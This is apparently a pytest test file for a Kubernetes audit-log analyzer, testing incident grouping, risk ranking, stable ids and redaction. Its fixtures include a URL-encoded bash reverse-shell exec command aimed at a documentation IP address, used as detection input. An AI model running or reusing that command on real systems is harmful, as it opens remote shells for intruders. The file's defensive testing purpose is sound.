"""Incidents instead of floods (issue 16 req 4): alerts grouped per identity and per target object within a gap,
ranked by a risk score from severity, breadth and rarity; stable ids; JSON incidents that reference alerts by
id; `audit timeline` names the incident; nothing secret in an incident's text."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import orjson
import pytest
from typer.testing import CliRunner

from kubehipaa.cli.audit import app
from kubehipaa.engines.auditlog import Alert, Detector, build_incidents, event_from_dict
from kubehipaa.engines.auditlog.incidents import DEFAULT_GAP, breadth, target_of
from kubehipaa.model import Severity
from kubehipaa.pipelines.audit import analyze
from kubehipaa.reports.audit_alerts import AuditAlertsReport
from kubehipaa.reports.base import RenderOptions
from tests.conftest import ROOT

from .helpers import at, raw_event

runner = CliRunner()
JANE, BOB, MALLORY = "jane@hospital.org", "bob@hospital.org", "mallory@hospital.org"
REVERSE_SHELL = ("/api/v1/namespaces/clinical/pods/ehr-0/exec?command=bash&command=-c&command="
                 "bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F203.0.113.9%2F4444%200%3E%261&container=ehr")


def _time(second: int) -> str:
    h, rest = divmod(second, 3600)
    return f"2026-11-27T{h:02d}:{rest // 60:02d}:{rest % 60:02d}.000000Z"


def _alert(n: int, *, user: str = JANE, rule: str = "KH-AUDLOG-030", severity: Severity = Severity.MEDIUM,
           ns: str = "clinical", obj: str | None = None, verb: str = "get", second: int | None = None,
           impersonated: str = "", count: int = 1) -> Alert:
    return Alert(rule, "t", severity, (), f"message {n}", _time(n if second is None else second), f"aid-{n}", user,
                 "10.0.0.1", "kubectl", verb, obj if obj is not None else f"pods {ns}/p{n}", ns, count=count,
                 impersonated=impersonated)


def _write(path: Path, events: list[dict[str, Any]]) -> Path:
    path.write_bytes(b"".join(orjson.dumps(e) + b"\n" for e in events))
    return path


def _run(*args: str) -> tuple[int, str]:
    res = runner.invoke(app, list(args), env={"COLUMNS": "120"})
    return res.exit_code, res.output


# ------------------------------------------------------------------------------------------------- grouping


def test_every_alert_is_in_exactly_one_identity_incident() -> None:
    alerts = [_alert(i, user=JANE if i % 3 else BOB) for i in range(30)]
    incidents = build_incidents(alerts)
    identity = [inc for inc in incidents if inc.kind == "identity"]
    assert sorted(inc.key for inc in identity) == [BOB, JANE]
    assert sorted(id(a) for inc in identity for a in inc.alerts) == sorted(id(a) for a in alerts)
    for inc in identity:
        assert {a.user for a in inc.alerts} == {inc.key} and inc.identities == [inc.key]
        assert inc.alerts == [a for a in alerts if a.user == inc.key]  # log order
        assert incidents.of(inc.alerts[0])[0] is inc


def test_impersonation_names_the_acting_identity_and_whom_it_impersonated() -> None:
    alerts = [_alert(1, user=JANE), _alert(2, user=JANE, impersonated="system:admin", severity=Severity.CRITICAL,
                                           rule="KH-AUDLOG-019")]
    (inc,) = build_incidents(alerts)
    assert (inc.key, inc.impersonated) == (JANE, ["system:admin"])
    assert inc.to_dict(lambda a: a.id)["impersonated"] == ["system:admin"]


def test_the_detector_records_whom_a_request_impersonated() -> None:
    ev = event_from_dict(raw_event("get", "pods", name="x", user=JANE, impersonate="system:admin", time=at(1)))
    alerts = Detector().process_all([ev])
    assert alerts and all(a.impersonated == "system:admin" for a in alerts)
    (inc,) = build_incidents(alerts)
    assert inc.key == JANE and inc.impersonated == ["system:admin"] and inc.max_severity == Severity.CRITICAL


def test_an_object_read_by_one_and_deleted_by_another_is_a_target_incident() -> None:
    read = _alert(1, user=JANE, obj="secrets clinical/db", rule="KH-AUDLOG-020")
    deleted = _alert(2, user=BOB, obj="secrets clinical/db", rule="KH-AUDLOG-025", verb="delete",
                     severity=Severity.LOW)
    other = _alert(3, user=BOB, obj="secrets clinical/other", rule="KH-AUDLOG-020")
    incidents = build_incidents([read, deleted, other])
    (target,) = [inc for inc in incidents if inc.kind == "target"]
    assert target.key == "secrets clinical/db" and target.alerts == [read, deleted]
    assert target.identities == [BOB, JANE] and target.targets == ["secrets clinical/db"]
    # the alerts stay in their identities' incidents too: the target incident is a second view
    assert [inc.kind for inc in incidents.of(deleted)] == ["identity", "target"]
    assert [inc.kind for inc in incidents.of(other)] == ["identity"]


def test_reads_by_a_few_identities_are_no_target_incident_but_by_many_are() -> None:
    few = [_alert(i, user=f"u{i}@hospital.org", obj="secrets clinical/db", rule="KH-AUDLOG-020") for i in range(4)]
    assert [inc.kind for inc in build_incidents(few)] == ["identity"] * 4
    many = [*few, _alert(4, user="u4@hospital.org", obj="secrets clinical/db", rule="KH-AUDLOG-020")]
    assert [inc.key for inc in build_incidents(many) if inc.kind == "target"] == ["secrets clinical/db"]


def test_a_target_is_a_named_object_and_the_subresource_is_the_same_object() -> None:
    assert target_of(_alert(1, obj="pods/exec clinical/ehr-0")) == "pods clinical/ehr-0"
    assert target_of(_alert(1, obj="secrets clinical")) is None  # a list in a namespace: no one object
    assert target_of(_alert(1, obj="clusterrolebindings evil", ns="")) == "clusterrolebindings evil"
    assert target_of(_alert(1, obj="/metrics", ns="")) is None
    # a windowed alert names only the last event of a burst: not a target
    assert target_of(_alert(1, rule="KH-AUDLOG-012", obj="pods clinical/x", count=5)) is None
    exec_then_delete = [_alert(1, user=JANE, obj="pods/exec clinical/ehr-0", verb="create"),
                        _alert(2, user=BOB, obj="pods clinical/ehr-0", verb="delete", rule="KH-AUDLOG-021")]
    assert [inc.key for inc in build_incidents(exec_then_delete) if inc.kind == "target"] == ["pods clinical/ehr-0"]


def test_a_quiet_gap_longer_than_the_window_starts_a_new_incident() -> None:
    hour = int(DEFAULT_GAP)
    alerts = [_alert(1, second=0), _alert(2, second=hour), _alert(3, second=2 * hour + 1), _alert(4, second=30)]
    incidents = build_incidents(alerts)
    assert sorted([a.message for a in inc.alerts] for inc in incidents) == [
        ["message 1", "message 2", "message 4"], ["message 3"]]  # exactly an hour apart is one incident
    first = next(inc for inc in incidents if len(inc.alerts) == 3)
    assert (first.first, first.last, first.seconds) == (_time(0), _time(hour), hour)
    assert len(build_incidents(alerts, gap=60)) == 3  # configurable: 0-30 s, 1 h, 2 h
    with pytest.raises(ValueError):
        build_incidents(alerts, gap=-1)


def test_an_alert_without_a_usable_time_joins_the_alert_before_it() -> None:
    alerts = [_alert(1, second=0), _alert(2, second=7200)]
    broken = _alert(3)
    broken.time = "not-a-time"
    incidents = build_incidents([*alerts, broken])
    assert sorted(len(inc.alerts) for inc in incidents) == [1, 2]
    assert broken in next(inc for inc in incidents if len(inc.alerts) == 2).alerts


# --------------------------------------------------------------------------------------------------- risk


def test_a_critical_reverse_shell_in_a_phi_namespace_outranks_10000_medium_lease_failures() -> None:
    lease = [_alert(i, user="system:node:ip-10-0-0-1", rule="KH-AUDLOG-012", ns="kube-node-lease",
                    obj="leases kube-node-lease/ip-10-0-0-1", verb="update") for i in range(10_000)]
    spread = [_alert(10_000 + i, user=f"system:node:n{i % 50}", rule="KH-AUDLOG-012", ns=f"team-{i % 12}")
              for i in range(10_000)]
    shell = _alert(99_999, user=MALLORY, rule="KH-AUDLOG-037", severity=Severity.CRITICAL, ns="clinical",
                   obj="pods/exec clinical/ehr-0", verb="create")
    for noise in (lease, spread):
        incidents = build_incidents([*noise, shell], phi_namespaces={"clinical"})
        top = incidents.incidents[0]
        assert top.alerts == [shell] and top.phi_namespaces == ["clinical"]
        assert top.risk > incidents.incidents[1].risk
    # without the PHI namespace it still outranks them (severity and rarity), by less
    plain = build_incidents([*lease, shell])
    assert plain.incidents[0].alerts == [shell]
    assert plain.incidents[0].risk < build_incidents([*lease, shell], phi_namespaces={"clinical"}).incidents[0].risk


def test_risk_grows_with_severity_breadth_and_rarity() -> None:
    def risk(alerts: list[Alert], **kw: Any) -> float:
        return build_incidents(alerts, **kw).incidents[0].risk

    one = [_alert(1)]
    assert risk([_alert(1, severity=Severity.HIGH)]) > risk(one)
    assert risk([_alert(1), _alert(2, ns="billing")]) > risk([_alert(1), _alert(2)])  # breadth: namespaces
    assert risk(one, phi_namespaces={"clinical"}) == pytest.approx(1.5 * risk(one))  # breadth: PHI
    assert breadth(1, 0) == 1.0 and breadth(50, 9) == pytest.approx(2.0 * 2.0)  # both capped
    # rarity: the same alert weighs less when its rule fired thousands of times in the run
    assert risk(one, rule_counts={"KH-AUDLOG-030": 5_000}) < risk(one, rule_counts={"KH-AUDLOG-030": 1})
    # volume counts, with diminishing returns: ten alerts of one rule do not weigh ten times one
    ten = [_alert(i) for i in range(10)]
    assert risk(one) < risk(ten) < 10 * risk(one)


# ---------------------------------------------------------------------------------------- end to end (CLI)


@pytest.fixture(scope="module")
def log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """300 failed lease renewals by a node, an operator's routine execs, a reverse shell into the clinical
    (PHI) namespace by another identity, a secret read by one human and deleted by another, and a human
    impersonating system:admin."""
    events = [raw_event("update", "leases", group="coordination.k8s.io", ns="kube-node-lease", name="node-1",
                        user="system:node:node-1", groups=["system:nodes"], code=403, decision="forbid",
                        time=_time(36_000 + i)) for i in range(300)]
    events += [raw_event("create", "pods", sub="exec", name=f"tools-{i}", ns="tools", code=101, user=BOB,
                         time=_time(36_000 + 10 * i), uri="/api/v1/namespaces/tools/pods/x/exec?command=ls")
               for i in range(20)]
    events += [
        raw_event("create", "pods", sub="exec", name="ehr-0", ns="clinical", code=101, user=MALLORY,
                  time=_time(36_500), uri=REVERSE_SHELL),
        raw_event("get", "secrets", name="db", ns="clinical", user=JANE, time=_time(36_600)),
        raw_event("delete", "secrets", name="db", ns="clinical", user=BOB, time=_time(36_700)),
        raw_event("get", "pods", name="scheduler-0", ns="clinical", user=JANE, impersonate="system:admin",
                  time=_time(36_800)),
    ]
    return _write(tmp_path_factory.mktemp("incidents") / "audit.log", events)


def _json(log: Path, tmp_path: Path, *extra: str, name: str = "r.json") -> dict[str, Any]:
    out = tmp_path / name
    code, output = _run("analyze", str(log), "-f", "json", "-o", str(out), "--fail-on", "never", *extra)
    assert code == 0, output
    return orjson.loads(out.read_bytes())


def test_json_incidents_reference_alerts_that_exist(log: Path, tmp_path: Path) -> None:
    doc = _json(log, tmp_path, "--phi-namespace", "clinical")
    alerts = {a["id"]: a for r in doc["rules"] for a in r["alerts"]}
    assert len(alerts) == doc["summary"]["alerts"]  # every alert has an id, and no two share one
    incidents = doc["incidents"]
    assert doc["summary"]["incidents"] == len(incidents) and doc["summary"]["phiNamespaces"] == ["clinical"]
    for inc in incidents:
        assert inc["alertIds"] and set(inc["alertIds"]) <= set(alerts), inc["id"]
        assert inc["alertCount"] == len(inc["alertIds"])
        assert inc["rules"] == list(dict.fromkeys(r["ruleId"] for r in inc["riskFactors"]["rules"]))
        assert set(inc["rules"]) == {alerts[i]["ruleId"] for i in inc["alertIds"]}
        assert set(inc["namespaces"]) == {alerts[i]["namespace"] for i in inc["alertIds"]} - {""}
    identity_alerts = [i for inc in incidents if inc["kind"] == "identity" for i in inc["alertIds"]]
    assert sorted(identity_alerts) == sorted(alerts)  # each alert in exactly one identity incident
    risks = [inc["risk"] for inc in incidents]
    assert risks == sorted(risks, reverse=True)
    keys = [inc["key"] for inc in incidents]
    shell = incidents[keys.index(MALLORY)]
    assert shell["maxSeverity"] == "critical" and shell["topRule"] == "KH-AUDLOG-037"
    assert shell["phiNamespaces"] == ["clinical"] and shell["alertCount"] == 2  # the exec and its reverse shell
    assert keys.index(MALLORY) < keys.index("system:node:node-1")  # above 300 failed lease renewals
    assert {incidents[0]["key"], incidents[1]["key"]} == {MALLORY, JANE}  # the two criticals lead
    (target,) = [inc for inc in incidents if inc["kind"] == "target"]
    assert target["key"] == "secrets clinical/db" and sorted(target["identities"]) == [BOB, JANE]
    impersonating = next(inc for inc in incidents if inc["key"] == JANE)
    assert impersonating["impersonated"] == ["system:admin"]


def test_phi_namespaces_come_from_the_config_too(log: Path, tmp_path: Path) -> None:
    cfg = tmp_path / "kh.yaml"
    cfg.write_text("phi:\n  namespaces: [clinical]\n")
    doc = _json(log, tmp_path, "--config", str(cfg))
    assert doc["summary"]["phiNamespaces"] == ["clinical"] and doc["incidents"][0]["phiNamespaces"] == ["clinical"]
    without = _json(log, tmp_path, name="plain.json")
    assert without["summary"]["phiNamespaces"] == [] and without["incidents"][0]["phiNamespaces"] == []
    assert without["incidents"][0]["risk"] < doc["incidents"][0]["risk"]


def test_the_incident_gap_is_an_option(log: Path, tmp_path: Path) -> None:
    default = _json(log, tmp_path)
    short = _json(log, tmp_path, "--incident-gap", "5s", name="short.json")
    assert short["summary"]["incidentGapSeconds"] == 5 and default["summary"]["incidentGapSeconds"] == 3600
    bob = [inc for inc in short["incidents"] if inc["key"] == BOB]
    assert len(bob) > 1 and len([inc for inc in default["incidents"] if inc["key"] == BOB]) == 1
    proc = subprocess.run([sys.executable, "-m", "kubehipaa.cli.main", "audit", "analyze", str(log),
                           "--incident-gap", "soon"], capture_output=True, text=True, timeout=120, check=False,
                          env={**os.environ, "PYTHONPATH": str(ROOT / "src")})
    assert proc.returncode == 2 and "--incident-gap 'soon'" in proc.stderr and "Traceback" not in proc.stderr


def test_ids_are_stable_across_runs_and_processes(log: Path, tmp_path: Path) -> None:
    """Alert and incident ids come from the content (never from Python's per-process hash seed)."""
    docs = []
    for seed in ("1", "2"):
        out = tmp_path / f"run{seed}.json"
        env = {**os.environ, "PYTHONHASHSEED": seed, "PYTHONPATH": str(ROOT / "src")}
        proc = subprocess.run([sys.executable, "-m", "kubehipaa.cli.main", "audit", "analyze", str(log), "-f",
                               "json", "-o", str(out), "--fail-on", "never"], env=env, capture_output=True,
                              text=True, timeout=120, check=False)
        assert proc.returncode == 0, proc.stderr
        docs.append(orjson.loads(out.read_bytes()))
    a, b = docs
    assert [(i["id"], i["alertIds"], i["risk"]) for i in a["incidents"]] == \
        [(i["id"], i["alertIds"], i["risk"]) for i in b["incidents"]]
    assert [x["id"] for r in a["rules"] for x in r["alerts"]] == [x["id"] for r in b["rules"] for x in r["alerts"]]
    # an incident keeps its id when the log grows: it is named by its key and its first alert
    grown = tmp_path / "grown.log"
    grown.write_bytes(log.read_bytes() + orjson.dumps(raw_event("get", "secrets", name="x", ns="clinical",
                                                                user=JANE, time=_time(80_000))) + b"\n")
    later = _json(grown, tmp_path, name="grown.json")
    assert {i["id"] for i in a["incidents"]} <= {i["id"] for i in later["incidents"]}


def test_alert_ids_match_the_sarif_fingerprint_and_repeats_are_numbered(log: Path, tmp_path: Path) -> None:
    out = tmp_path / "r.sarif"
    code, output = _run("analyze", str(log), "-f", "sarif", "-o", str(out), "--fail-on", "never")
    assert code == 0, output
    doc = _json(log, tmp_path)
    ids = {a["id"] for r in doc["rules"] for a in r["alerts"]}
    incident_of = {i: inc["id"] for inc in doc["incidents"] if inc["kind"] == "identity" for i in inc["alertIds"]}
    for result in orjson.loads(out.read_bytes())["runs"][0]["results"]:
        props = result["properties"]
        assert props["alertId"] in ids and result["partialFingerprints"]["kubehipaaAlert/v2"][:16] == props["alertId"]
        assert props["incidentIds"][0] == incident_of[props["alertId"]]
    # two alerts that differ only inside a redacted value share a base id: the report numbers the repeats
    twin = _alert(1)
    result = analyze([str(log)])
    result.alerts.add(twin)
    result.alerts.add(_alert(1))
    from kubehipaa.pipelines.audit import with_incidents

    report = orjson.loads(AuditAlertsReport().render(with_incidents(result), "json", RenderOptions()))
    ids_list = [a["id"] for r in report["rules"] for a in r["alerts"]]
    assert len(ids_list) == len(set(ids_list)) and f"{twin.id}-2" in ids_list
    assert all(i in set(ids_list) for inc in report["incidents"] for i in inc["alertIds"])


def test_with_keep_the_incidents_reference_only_alerts_the_report_has(log: Path, tmp_path: Path) -> None:
    doc = _json(log, tmp_path, "--keep", "3")
    ids = {a["id"] for r in doc["rules"] for a in r["alerts"]}
    assert doc["summary"]["omitted"] > 0
    assert all(i in ids for inc in doc["incidents"] for i in inc["alertIds"])


def test_the_table_ranks_incidents_and_details_list_their_alerts(log: Path) -> None:
    code, table = _run("analyze", str(log), "--phi-namespace", "clinical", "--fail-on", "never")
    assert code == 0
    head = table.split("Alerts by rule")[0]
    assert head.index(MALLORY) < head.index("system:node:node-1")  # riskiest first
    assert "KH-AUDLOG-037" in head and "clinical (PHI)" in head and "as system:admin" in head
    assert "bash -i" not in head  # without --details: incidents only
    code, details = _run("analyze", str(log), "--phi-namespace", "clinical", "--fail-on", "never", "--details")
    assert code == 0 and "/dev/tcp/203.0.113.9/4444" in details  # the command as the alert's message says it


def test_the_timeline_names_the_incident_of_each_alerted_request(log: Path, tmp_path: Path) -> None:
    doc = _json(log, tmp_path, "--phi-namespace", "clinical")
    alerts = {a["id"]: a for r in doc["rules"] for a in r["alerts"]}
    by_audit_id: dict[str, set[str]] = {}
    for inc in doc["incidents"]:
        for i in inc["alertIds"]:
            by_audit_id.setdefault(alerts[i]["auditID"], set()).add(inc["id"])
    out = tmp_path / "tl.json"
    code, output = _run("timeline", str(log), "-f", "json", "-o", str(out), "--phi-namespace", "clinical")
    assert code == 0, output
    entries = orjson.loads(out.read_bytes())["entries"]
    alerted = [e for e in entries if e["alerts"]]
    assert len(alerted) == len(by_audit_id)
    for e in alerted:
        assert set(e["incidents"]) == by_audit_id[e["auditID"]], e
    assert all(e["incidents"] == [] for e in entries if not e["alerts"])
    shell = next(e for e in entries if e["user"] == MALLORY)
    top = next(inc["id"] for inc in doc["incidents"] if inc["key"] == MALLORY)
    assert shell["incidents"] == [top]
    code, table = _run("timeline", str(log), "--user", MALLORY)
    assert code == 0 and f"→ {top}" in table
    html = tmp_path / "tl.html"
    code, _ = _run("timeline", str(log), "--user", MALLORY, "-f", "html", "-o", str(html))
    assert code == 0 and top in html.read_text()


# -------------------------------------------------------------------------------------------- redaction

SSN = "078-05-1120"
PASSWORD = "Zq8vLw3xTr9pKe"


def test_no_secret_or_phi_in_incident_text(tmp_path: Path) -> None:
    """A secret named with an SSN, read by one identity and deleted by another (a target incident keyed by that
    name), and an exec with a password on its command line: the incidents' keys, targets and details are
    redacted."""
    secret = f"patient-{SSN}"
    uri = ("/api/v1/namespaces/clinical/pods/db-0/exec?command=psql&command=postgres%3A%2F%2Fadmin%3A"
           f"{PASSWORD}%40db&container=db")
    events = [raw_event("get", "secrets", name=secret, ns="clinical", user=JANE, time=at(1)),
              raw_event("delete", "secrets", name=secret, ns="clinical", user=BOB, time=at(2)),
              raw_event("create", "pods", sub="exec", name="db-0", ns="clinical", code=101, user=JANE, uri=uri,
                        time=at(3))]
    log = _write(tmp_path / "audit.log", events)
    doc = _json(log, tmp_path)
    (target,) = [inc for inc in doc["incidents"] if inc["kind"] == "target"]
    assert target["key"].startswith("secrets clinical/patient-<redacted")
    assert all(SSN not in t for t in target["targets"])
    texts = [orjson.dumps(doc["incidents"]).decode()]
    for args in (("--details",), ()):
        code, out = _run("analyze", str(log), "--fail-on", "never", *args)
        assert code == 0
        texts.append(out)
    code, out = _run("timeline", str(log))
    texts.append(out)
    for text in texts:
        assert SSN not in text and SSN.replace("-", "") not in text and PASSWORD not in text
        assert PASSWORD[:8] not in text


def test_the_timeline_keeps_the_incident_when_a_later_stage_replaces_the_entry(tmp_path: Path) -> None:
    """An exec is evaluated on its ResponseStarted stage; its ResponseComplete stage then replaces the timeline
    entry (the final outcome): the incident named on the entry must survive the replacement."""
    stages = [raw_event("create", "pods", sub="exec", name="ehr-0", ns="clinical", code=101, user=MALLORY,
                        time=at(1), uri=REVERSE_SHELL, audit_id="exec-1", stage=stage)
              for stage in ("RequestReceived", "ResponseStarted", "ResponseComplete")]
    log = _write(tmp_path / "audit.log", stages)
    out = tmp_path / "tl.json"
    code, output = _run("timeline", str(log), "-f", "json", "-o", str(out))
    assert code == 0, output
    (entry,) = orjson.loads(out.read_bytes())["entries"]
    doc = _json(log, tmp_path)
    assert entry["alerts"] and entry["incidents"] == [doc["incidents"][0]["id"]]
